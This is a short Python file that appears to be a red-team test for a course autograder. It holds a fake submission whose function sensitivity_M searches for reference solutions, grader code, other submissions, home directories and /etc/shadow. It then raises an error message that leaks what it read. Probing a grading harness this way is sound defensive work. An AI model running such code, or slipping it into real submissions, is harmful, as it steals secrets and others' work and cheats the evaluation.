# target: ch06/variational.py
# attacks: ch06.variational_bp
# outcome: loses-points
# statuses: student_error timeout passed
# message: sensitivity_M
"""sensitivity_M reads what it must not see (the reference solution, the grader, other
submissions, the host's files) and raises with what it found, so the message would leak it."""
import glob
import os


def sensitivity_M(params, x, l):
    found = []
    for pattern in ("/work/*/geodl_ref/ch06/*.py", "/**/geodl_ref/**/*.py", "/**/graders/chapters/**/*.py",
                    "/root/*", "/etc/shadow", "/home/*", "/**/submitted/*"):
        for path in glob.glob(pattern, recursive=True)[:3]:
            try:
                with open(path) as fh:
                    found.append(f"{path}: {fh.read(60)!r}")
            except OSError as exc:
                found.append(f"{path}: {exc}")
    raise RuntimeError(f"found {len(found)} paths: {found} ; cwd listing {os.listdir('.')}")
